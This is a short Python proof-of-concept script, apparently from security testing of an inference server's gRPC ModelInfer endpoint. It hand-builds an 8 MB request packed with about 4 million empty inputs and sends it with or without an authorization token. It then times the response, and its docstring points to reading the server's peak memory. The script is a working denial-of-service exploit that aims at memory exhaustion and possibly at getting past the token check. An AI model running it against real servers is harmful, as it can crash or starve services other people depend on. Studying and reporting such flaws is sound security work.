#!/usr/bin/env python3
"""Attack 2: a gRPC ModelInfer of 8 MB holding 4 million empty `inputs`, without (or with) the token.
Usage: $VENV_PYTHON empty-inputs-flood.py PORT [TOKEN] (grpcio from tritonclient[grpc]; loopback only).
Prints the status and the time; read the server's VmHWM from /proc/PID/status."""
import grpc, sys, time
port=int(sys.argv[1]); token=sys.argv[2] if len(sys.argv)>2 else None
msg=b'\x0a\x05sobel'+b'\x2a\x00'*4_000_000
ch=grpc.insecure_channel("127.0.0.1:%d"%port, options=[("grpc.max_send_message_length", 64<<20)])
call=ch.unary_unary('/inference.GRPCInferenceService/ModelInfer', request_serializer=lambda b:b, response_deserializer=lambda b:b)
md=[("authorization","Bearer "+token)] if token else None
t=time.time()
try:
    call(msg, metadata=md, timeout=60); print("ok")
except grpc.RpcError as e:
    print(len(msg), "bytes:", e.code(), e.details()[:80], "%.2f s"%(time.time()-t))
